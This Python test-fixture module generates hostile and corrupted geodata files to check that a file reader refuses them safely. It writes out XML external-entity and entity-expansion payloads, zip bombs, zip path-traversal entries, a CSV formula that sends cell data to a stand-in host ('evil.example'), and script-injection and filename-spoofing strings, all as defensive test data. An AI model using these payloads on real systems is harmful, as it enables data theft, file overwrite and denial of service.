"""A folder of files in every state of disrepair and malice, and what reading each of them must say."""

from __future__ import annotations

import json
import random
import sqlite3
import stat
import struct
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING

import geopandas as gpd
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pyogrio
import shapely
import xlsxwriter

from geo.exchange.read.limits import Limits

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

__all__ = ["DIRTY", "LIMITS", "SECRET", "Dirty", "endless_view", "write_dirty"]

SECRET = "SECRET-7f3a"
"""Stands in files beside the dirty ones, to which some of them point; no reader may ever give it away."""
LIMITS = Limits(longest_feature=1_000_000, zip_bytes=200_000_000, zip_free=3_000_000, zip_ratio=100, zip_files=200)
"""Smaller than the usual ones, so that the files may be small, too."""


@dataclass(frozen=True)
class Dirty:
    """One dirty file, and what becomes of it."""

    name: str
    write: Callable[[Path, int], None]
    """Given the place, and the port of a server that nobody must contact."""
    says: str | None = None
    """A pattern of the sentence with which the whole file is refused; None if it is read."""
    rows: int = -1
    """How many rows come out, the broken ones too."""
    defects: tuple[str, ...] = ()
    """Codes of broken rows, each once."""
    remarks: tuple[str, ...] = ()
    """Codes of what is said of the file as a whole, besides a guessed encoding."""
    columns: tuple[str, ...] = ()
    """Some of the headings."""
    texts: tuple[str, ...] = ()
    """Some of the texts that come out."""
    crs: str | None = ""
    """The reference system that is declared; empty where that is no matter."""
    layer: str | None = None
    seconds: float = 60.0


# ---- GeoJSON --------------------------------------------------------------------------------------------------------


def feature(at: int, **properties: object) -> str:
    """Return one good feature."""
    place = [46.7 + at / 1000, 39.7 + at / 1000]
    return json.dumps(
        {
            "type": "Feature",
            "properties": {"id": f"site-{at}", "name": f"Kilsə {at}", **properties},
            "geometry": {"type": "Point", "coordinates": place},
        },
        ensure_ascii=False,
    )


def collection(features: list[str]) -> str:
    return '{"type":"FeatureCollection","features":[\n' + ",\n".join(features) + "\n]}"


def json_file(features: list[str], *, cut: int = 0) -> Callable[[Path, int], None]:
    text = collection(features).encode()
    return lambda path, _port: _bytes(path, text[: len(text) - cut])


def _bytes(path: Path, content: bytes) -> None:
    path.write_bytes(content)


def content(of: bytes | str) -> Callable[[Path, int], None]:
    return lambda path, _port: _bytes(path, of.encode() if isinstance(of, str) else of)


def _many(n: int, **broken: str) -> list[str]:
    return [broken.get(f"at_{at}", feature(at)) for at in range(n)]


_deep: object = "x"
for _level in range(10):
    _deep = {"more": [_deep]}


def long_line(path: Path, _port: int, *, n_bytes: int = 3_000_000) -> None:
    """Write one endless feature between good ones, without ever holding it."""
    with path.open("wb") as file:
        file.write(feature(0).encode() + b"\n")
        file.write(b'{"type":"Feature","properties":{"name":"')
        for _block in range(n_bytes // 100_000):
            file.write(b"x" * 100_000)
        file.write(b'"},"geometry":null}\n' + feature(2).encode() + b"\n")


# ---- XML that points elsewhere --------------------------------------------------------------------------------------


def vrt(path: Path, _port: int) -> None:
    secret = path.parent / "secret.geojson"
    path.write_text(
        f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    )


def wfs(path: Path, port: int) -> None:
    path.write_text(f"<OGRWFSDataSource><URL>http://127.0.0.1:{port}/wfs</URL></OGRWFSDataSource>")


def kml_entities(path: Path, port: int) -> None:
    secret = path.parent / "secret.txt"
    path.write_text(
        f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a SYSTEM "file://{secret}"><!ENTITY b SYSTEM '
        f'"http://127.0.0.1:{port}/">]><kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&a;&b;</name>'
        "<Point><coordinates>46.7,39.7</coordinates></Point></Placemark></Document></kml>"
    )


_BOMB = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10 if at else "x" * 50}">' for at in range(10))


def kml_links(path: Path, port: int) -> None:
    address = f"http://127.0.0.1:{port}/more.kml"
    secret = path.parent / "secret.kml"
    path.write_text(
        f"""<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>
        <Style id="s"><IconStyle><Icon><href>{address}</href></Icon></IconStyle></Style>
        <NetworkLink><name>more</name><Link><href>{address}</href></Link></NetworkLink>
        <NetworkLink><name>secret</name><Link><href>{secret}</href></Link></NetworkLink>
        <GroundOverlay><name>g</name><Icon><href>{address}</href></Icon></GroundOverlay>
        <Schema name="t" id="t"><SimpleField type="string" name="kind"/></Schema>
        <Folder><name>Churches</name>
        <Placemark><name>Kilsə</name><styleUrl>{address}#s</styleUrl><ExtendedData><SchemaData schemaUrl="{secret}#t">
        <SimpleData name="kind">church</SimpleData></SchemaData><Data name="built"><value>1850</value></Data></ExtendedData>
        <Point><coordinates>46.7,39.7,12</coordinates></Point></Placemark></Folder></Document></kml>"""
    )


def kml_deep(path: Path, _port: int) -> None:
    path.write_text(
        '<kml xmlns="http://www.opengis.net/kml/2.2">' + "<Folder>" * 100_000 + "</Folder>" * 100_000 + "</kml>"
    )


_GPX = """<gpx version="1.1" creator="x" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="39.7" lon="46.7"><name>Kilsə</name>
</wpt><wpt lat="39.8" lon="46.8"><name>Məscid</name></wpt><trk><name>Way</name><trkseg><trkpt lat="39" lon="46"/>
<trkpt lat="39.1" lon="46"/></trkseg></trk></gpx>"""


# ---- archives -------------------------------------------------------------------------------------------------------


def zipped(files: dict[str, bytes], **options: int) -> Callable[[Path, int], None]:
    def write(path: Path, _port: int) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, body in files.items():
                member = zipfile.ZipInfo(name)
                member.compress_type = zipfile.ZIP_DEFLATED
                member.external_attr = options.get("mode", stat.S_IFREG | 0o600) << 16
                archive.writestr(member, body)

    return write


def zip_bomb(path: Path, _port: int) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("sites.geojson", "w") as file:
        for _block in range(20):
            file.write(bytes(1_000_000))


def lying_zip(path: Path, _port: int) -> None:
    """Write an archive whose heading says that 20 MB are 2,000 bytes."""
    zip_bomb(path, 0)
    body = bytearray(path.read_bytes())
    real, false = struct.pack("<I", 20_000_000), struct.pack("<I", 2_000)
    while (at := body.find(real)) >= 0:
        body[at : at + 4] = false
    path.write_bytes(body)


def cut(make: Callable[[Path, int], None], share: float) -> Callable[[Path, int], None]:
    """Return a writer that leaves the end of what another writes away."""

    def write(path: Path, port: int) -> None:
        make(path, port)
        body = path.read_bytes()
        path.write_bytes(body[: int(len(body) * share)])

    return write


# ---- Shapefiles -----------------------------------------------------------------------------------------------------

SITES = gpd.GeoDataFrame(
    {"ad": ["Şuşa qalası", "Ağdam məscidi".replace("ə", "e"), "Köhnə kilsə".replace("ə", "e")], "say": [1, 2, 3]},
    geometry=gpd.points_from_xy([46.75, 46.93, 46.8], [39.76, 39.99, 39.8]),
    crs=4326,
)


def shapefile(
    encoding: str,
    *,
    crs: int = 32638,
    cpg: bytes | None = None,
    without: tuple[str, ...] = (),
    frame: gpd.GeoDataFrame = SITES,
    cut_part: str = "",
) -> Callable[[Path, int], None]:
    def write(path: Path, _port: int) -> None:
        folder = path.parent / f".{path.name}"
        folder.mkdir()
        pyogrio.write_dataframe(frame.to_crs(crs), folder / "sites.shp", encoding=encoding)
        table = bytearray((folder / "sites.dbf").read_bytes())
        table[29] = 0  # says nothing of the language, as most programs do
        (folder / "sites.dbf").write_bytes(table)
        if cpg is not None:
            (folder / "sites.cpg").write_bytes(cpg)
        with zipfile.ZipFile(path, "w") as archive:
            for part in sorted(folder.iterdir()):
                if part.suffix not in without:
                    body = part.read_bytes()
                    archive.writestr(f"data/{part.name}", body[: -30 if part.suffix == cut_part else None])
        for part in folder.iterdir():
            part.unlink()
        folder.rmdir()

    return write


# ---- tables ---------------------------------------------------------------------------------------------------------

_HEADING = "id,name,lon,lat\n"
_FORMULAS = (
    _HEADING + '1,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",46.7,39.7\n2,+1+1,46.7,39.7\n3,@SUM(A1),46.7,39.7\n'
)
_MARKUP = _HEADING + "1,<script>alert(1)</script>,46.7,39.7\n2,<img src=x onerror=alert(1)>,46.7,39.7\n"
_RTL = _HEADING + "1,kilsə\u202egnp.exe,46.7,39.7\n2,\u2066Şuşa\u2069,46.7,39.7\n"
_RAGGED = _HEADING + "1,A,46.7,39.7\n2,B,46.7\n3,C,46.7,39.7,more,\n\n4,D,46.7,39.7,,\n5,E,46.7,39.7\n"
_QUOTES = (
    _HEADING
    + '1,A,46.7,39.7\n2,"B,46.7,39.7\n3,"C ""the old""",46.7,39.7\n4,"D\nin two lines",46.7,39.7\n5,E "F" G,46.7,39.7\n'
)
_NOT_UTF8 = (
    _HEADING + "".join(f"{at},Kilsə {at},46.7,39.7\n" for at in range(20))
).encode() + b"20,Kils\xff,46.7,39.7\n"


def long_cell(path: Path, _port: int, *, n_bytes: int = 3_000_000) -> None:
    """Write one endless cell between good rows, without ever holding it."""
    with path.open("wb") as file:
        file.write(_HEADING.encode() + b"1,A,46.7,39.7\n2,")
        for _block in range(n_bytes // 100_000):
            file.write(b"x" * 100_000)
        file.write(b",46.7,39.7\n3,C,46.7,39.7\n")


def workbook(path: Path, _port: int) -> None:
    book = xlsxwriter.Workbook(path, {"strings_to_formulas": False})
    book.add_worksheet("notes")
    sheet = book.add_worksheet("monuments")
    sheet.merge_range(0, 0, 0, 3, "Monuments of the town, 2024")
    sheet.write_row(2, 0, ["id", "name", "built", "name", ""])
    sheet.write_row(3, 0, [17, "Şuşa", 1850, "Шуша", 46.75])
    sheet.write_row(4, 0, [18.5, "=1+1"])
    sheet.write_datetime(4, 2, np.datetime64("1950-01-02").item(), book.add_format({"num_format": "yyyy-mm-dd"}))
    sheet.write_formula(6, 1, '="a"&"b"', None, "ab")
    book.close()


def workbook_bomb(path: Path, _port: int) -> None:
    """Write a workbook with a cell in each far corner, which is 17 thousand million cells to a reader that takes it literally."""
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("sites")
    sheet.write(0, 0, "id")
    sheet.write(1_048_575, 16_383, "x")
    book.close()


# ---- databases and columns ------------------------------------------------------------------------------------------


def geopackage(path: Path, _port: int) -> None:
    place = path.with_name("made.gpkg")
    pyogrio.write_dataframe(SITES, place, layer="sites")
    place.rename(path)


def _statements(*statements: str) -> Callable[[Path, int], None]:
    def write(path: Path, port: int) -> None:
        geopackage(path, port)
        connection = sqlite3.connect(path)
        for statement in statements:
            connection.execute(statement.format(folder=path.parent))
        connection.commit()
        connection.close()

    return write


_REGISTER = (
    "insert into gpkg_contents (table_name, data_type, identifier, srs_id) values ('more', 'attributes', 'more', 0)"
)


endless_view = _statements(
    "create view more as with recursive n(x) as (select 1 union all select x + 1 from n) select x, hex(zeroblob(2000)) as t from n",
    _REGISTER,
)
"""A table that never ends, and can never be counted."""


def virtual_table(path: Path, port: int) -> None:
    """Write a GeoPackage with a table that GDAL would fetch from another file."""
    geopackage(path, port)
    connection = sqlite3.connect(path)
    connection.execute("pragma writable_schema = on")
    sql = f"CREATE VIRTUAL TABLE more USING VirtualOGR('{path.parent / 'secret.gpkg'}')"
    connection.execute(
        "insert into sqlite_master (type, name, tbl_name, rootpage, sql) values ('table', 'more', 'more', 0, ?)", (sql,)
    )
    connection.execute(_REGISTER)
    connection.commit()
    connection.close()


def plain_sqlite(path: Path, _port: int) -> None:
    connection = sqlite3.connect(path)
    connection.execute("create table sites (id text)")
    connection.commit()
    connection.close()


def bad_utf8_gpkg(path: Path, port: int) -> None:
    geopackage(path, port)
    connection = sqlite3.connect(path)
    for (name,) in connection.execute("select name from sqlite_master where type = 'trigger'").fetchall():
        connection.execute(f"drop trigger {name}")
    connection.execute("update sites set ad = cast(x'4bff4b' as text) where fid = 2")
    connection.commit()
    connection.close()


def parquet(path: Path, _port: int, *, geo: str | None = None, wkb: list[bytes | None] | None = None) -> None:
    shapes = shapely.to_wkb(SITES.geometry.to_numpy()).tolist() if wkb is None else wkb
    table = pa.table({"id": pa.array([1, 2, 3]), "name": list(SITES["ad"]), "geometry": pa.array(shapes, pa.binary())})
    if geo is not None:
        table = table.replace_schema_metadata({"geo": geo})
    pq.write_table(table, path)


def flatgeobuf(path: Path, _port: int) -> None:
    place = path.with_name("made.fgb")
    pyogrio.write_dataframe(SITES, place)
    place.rename(path)


_NOISE = random.Random(7).randbytes(5000)
_GK = gpd.GeoDataFrame({"ad": ["A", "B"]}, geometry=gpd.points_from_xy([45.2, 45.4], [39.7, 39.9]), crs=4326)
_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

DIRTY: tuple[Dirty, ...] = (
    # GeoJSON
    Dirty("truncated.geojson", json_file(_many(20), cut=400), rows=18, defects=("truncated",)),
    Dirty(
        "one_broken.geojson",
        json_file(_many(30, at_15=feature(15).replace('"name": "', '"name": '))),
        rows=30,
        defects=("broken_feature",),
    ),
    Dirty("nan.geojson", json_file([feature(0), feature(1).replace("39.701", "NaN"), feature(2).replace("46.702", "Infinity"), feature(3)]), rows=4, defects=("broken_feature", "not_finite")),
    Dirty("deep.geojson", json_file([feature(0, deep=_deep)]), rows=1, columns=("deep",)),
    Dirty("long_line.ndjson", long_line, rows=3, defects=("feature_too_long",)),
    Dirty("markup.geojson", json_file([feature(0, note="<script>alert(1)</script>")]), rows=1, texts=("<script>",)),
    Dirty("overrides.geojson", json_file([feature(0, note="abc\u202egnp.exe")]), rows=1),
    Dirty("utf16.geojson", content(collection(_many(5)).encode("utf-16")), rows=5, texts=("Kilsə 3",)),
    Dirty("empty.geojson", content(b""), "is empty"),
    Dirty("spaces.geojson", content(b" \n\n\t "), "nothing but spaces"),
    # XML that points elsewhere
    Dirty("vrt.geojson", vrt, "GDAL virtual file, which only points to other files"),
    Dirty("wfs.gml", wfs, "a service on the network"),
    Dirty("collection.geojson", content('<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs/2.0"/>'), "is GML"),
    Dirty("page.kml", content("<!doctype html><html><body>404</body></html>"), "DOCTYPE|web page"),
    Dirty("entities.kml", kml_entities, r"document type \(DOCTYPE\)"),
    Dirty("bomb.kml", content(f'<!DOCTYPE kml [{_BOMB}]><kml xmlns="http://www.opengis.net/kml/2.2"><name>&e9;</name></kml>'), "DOCTYPE"),
    Dirty("links.kml", kml_links, rows=1, remarks=("links_not_followed",), columns=("kind", "built"), texts=("Kilsə", "1850"), crs="EPSG:4326"),
    Dirty("deep.kml", kml_deep, "nested more than 200 deep"),
    Dirty("broken.kml", content("<kml xmlns='http://www.opengis.net/kml/2.2'><Document><Placemark></Document></kml>"), "the XML is broken or cut off"),
    Dirty("way.gpx", content(_GPX), rows=2, remarks=("other_layers",), texts=("Kilsə",), crs="EPSG:4326"),
    Dirty("truncated.gpx", content(_GPX[:-20]), "the XML is broken or cut off"),
    # archives
    Dirty("bomb.zip", zip_bomb, "more than its .* bytes can honestly hold"),
    Dirty("lying.zip", lying_zip, "headings say|damaged"),
    Dirty("dots.zip", zipped({"../../evil.geojson": b"{}"}), r"would lie outside of it, '../../evil"),
    Dirty("absolute.zip", zipped({"/tmp/evil.geojson": b"{}"}), "would lie outside"),
    Dirty("backslash.zip", zipped({"..\\evil.geojson": b"{}"}), "would lie outside"),
    Dirty("drive.zip", zipped({"C:evil.geojson": b"{}"}), "would lie outside"),
    Dirty("link.zip", zipped({"sites.geojson": b"../secret.geojson"}, mode=stat.S_IFLNK | 0o777), "a link or device"),
    Dirty("nested.zip", zipped({"more.zip": b"PK"}), "another archive"),
    Dirty("many.zip", zipped({f"{at}.csv": b"a" for at in range(300)}), "holds 300 files, more than 200"),
    Dirty("two.zip", zipped({"a.csv": b"id,name\n1,A\n", "b.csv": b"id,name\n1,A\n"}), "several files, 'a.csv', 'b.csv'"),
    Dirty("nothing.zip", zipped({}), "empty archive|damaged"),
    Dirty("picture.zip", zipped({"a.png": b"\x89PNG\r\n\x1a\n"}), "holds no file that is read"),
    Dirty("truncated.zip", cut(zipped({"a.csv": _NOISE}), 0.5), "damaged or cut off"),
    Dirty("links.kmz", lambda path, port: _kmz(path, port), rows=1, remarks=("links_not_followed",)),
    Dirty("one.zip", zipped({"a/b.geojson": collection(_many(3)).encode(), "__MACOSX/._b.geojson": b"x"}), rows=3),
    # Shapefiles
    Dirty("turkish.zip", shapefile("cp1254", without=(".cpg",)), rows=3, texts=("Şuşa qalası",), crs="EPSG:32638"),
    Dirty("cpg_1254.zip", shapefile("cp1254"), rows=3, texts=("Şuşa qalası",), crs="EPSG:32638"),
    Dirty("wrong_cpg.zip", shapefile("cp1254", cpg=b"UTF-8"), rows=3, remarks=("encoding_unsure",), texts=("Şuşa qalası",)),
    Dirty("other_cpg.zip", shapefile("utf-8", cpg=b"ANSI 1252"), rows=3, remarks=("encoding_unsure",)),
    Dirty("no_cpg.zip", shapefile("utf-8", cpg=b"nonsense"), rows=3, remarks=("encoding_unsure",), texts=("Şuşa qalası",)),
    Dirty("no_prj.zip", shapefile("utf-8", without=(".prj",)), rows=3, crs=None),
    Dirty("gauss_krueger.zip", shapefile("utf-8", crs=2498, frame=_GK, without=(".prj",)), rows=2, crs=None),
    Dirty("no_dbf.zip", shapefile("utf-8", without=(".dbf",)), "lacks the sites.dbf"),
    Dirty("no_shx.zip", shapefile("utf-8", without=(".shx",)), "lacks the sites.shx"),
    Dirty("cut_shp.zip", shapefile("utf-8", cut_part=".shp"), "its .shp is cut off"),
    Dirty("cut_dbf.zip", shapefile("utf-8", cut_part=".dbf"), "its .dbf is cut off"),
    Dirty("no_shp.zip", shapefile("utf-8", without=(".shp",)), "no .shp"),
    # tables
    Dirty("formulas.csv", content(_FORMULAS), rows=3, texts=("=HYPERLINK(",)),
    Dirty("markup.csv", content(_MARKUP), rows=2, texts=("<img src=x",)),
    Dirty("overrides.csv", content(_RTL), rows=2),
    Dirty("ragged.csv", content(_RAGGED), rows=5, defects=("row_width",)),
    Dirty("quotes.csv", content(_QUOTES), rows=5, defects=("broken_feature",), texts=('C "the old"', "D\nin two lines", 'E "F" G')),
    Dirty("not_utf8.csv", content(_NOT_UTF8), rows=21, defects=("bad_text",)),
    Dirty("nul.csv", content(_HEADING + "1,A\0B,46.7,39.7\n"), rows=1),
    Dirty("long_cell.csv", long_cell, rows=3, defects=("feature_too_long",)),
    Dirty("utf16.csv", content((_HEADING + "1,Kilsə,46.7,39.7\n").encode("utf-16")), rows=1, texts=("Kilsə",)),
    Dirty("russian.csv", content("id;название;x;y\n1;Шушинская крепость;46,75;39,76\n2;Гандзасар;46,5;40,0\n".encode("cp1251")), rows=2, columns=("название", "x"), texts=("Гандзасар", "46,75")),
    Dirty("heading.csv", content(_HEADING), rows=0, columns=("id", "lat")),
    Dirty("old_mac.csv", content(_HEADING.replace("\n", "\r") + "1,A,46.7,39.7\r2,B,46.7,39.7\r"), rows=2),
    Dirty("columns.csv", content(",".join(f"c{at}" for at in range(3000)) + "\n"), "3000 columns"),
    Dirty("picture.csv", content(b"\x89PNG\r\n\x1a\n" + _NOISE), "a picture"),
    Dirty("noise.csv", content(b"\x07\x08" + _NOISE), "no format that is known"),
    Dirty("old.xlsx", content(_XLS), "save it as .xlsx"),
    Dirty("titled.xlsx", workbook, rows=3, remarks=("title_rows",), columns=("id", "name", "name (2)", "column E"), texts=("17", "18.5", "1950-01-02", "ab", "=1+1")),
    Dirty("bomb.xlsx", workbook_bomb, "asked for more memory than a file may"),
    Dirty("truncated.xlsx", cut(workbook, 0.6), "damaged or cut off"),
    # databases and columns
    Dirty("sites.bin", geopackage, rows=3, columns=("ad",), texts=("Şuşa qalası",), crs="EPSG:4326"),
    Dirty("virtual.gpkg", virtual_table, "cannot be read|no layer", layer="more"),
    Dirty("endless.gpkg", endless_view, "took longer to read than 1 s", layer="more", seconds=1.0),
    Dirty("bad_utf8.gpkg", bad_utf8_gpkg, rows=3, defects=("bad_text",)),
    Dirty("truncated.gpkg", cut(geopackage, 0.3), "cannot be read|made its reader fail"),
    Dirty("plain.sqlite", plain_sqlite, "no GeoPackage"),
    Dirty("noise.gpkg", content(b"SQLite format 3\0" + bytes(52) + b"GPKG" + _NOISE), "cannot be read"),
    Dirty("plain.parquet", parquet, rows=3, texts=("Şuşa qalası",), crs=None),
    Dirty("bad_wkb.parquet", lambda p, _: parquet(p, 0, wkb=[None, b"\1\2\3", b""]), rows=3, defects=("geometry_unreadable",)),
    Dirty("bad_geo.parquet", lambda p, _: parquet(p, 0, geo='{"columns": [1, 2'), rows=3),
    Dirty("other_geo.parquet", lambda p, _: parquet(p, 0, geo='{"primary_column":"geometry","columns":{"geometry":{"encoding":"X"}}}'), "is not known: export it with WKB"),
    Dirty("truncated.parquet", cut(parquet, 0.7), "cannot be read"),
    Dirty("sites.fgb", flatgeobuf, rows=3, texts=("Şuşa qalası",)),
    Dirty("truncated.fgb", cut(flatgeobuf, 0.9), "1 of 3 rows can be read"),
    Dirty("folder", lambda path, _port: path.mkdir(), "is a folder"),
)  # fmt: skip


def _kmz(path: Path, port: int) -> None:
    inner = path.with_name("inner.kml")
    kml_links(inner, port)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("doc.kml", inner.read_bytes())
    inner.unlink()


def write_dirty(folder: Path, port: int) -> None:
    """Write every dirty file, and the secret ones to which they point.

    Parameters
    ----------
    folder
        Where to; must be empty.
    port
        Of a server on this machine that must never be contacted.
    """
    (folder / "secret.txt").write_text(SECRET)
    (folder / "secret.geojson").write_text(collection([feature(0, note=SECRET)]))
    kml = '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>{}</name></Placemark></kml>'
    (folder / "secret.kml").write_text(kml.format(SECRET))
    pyogrio.write_dataframe(SITES.assign(ad=SECRET), folder / "secret.gpkg", layer="sites")
    for dirty in DIRTY:
        dirty.write(folder / dirty.name, port)
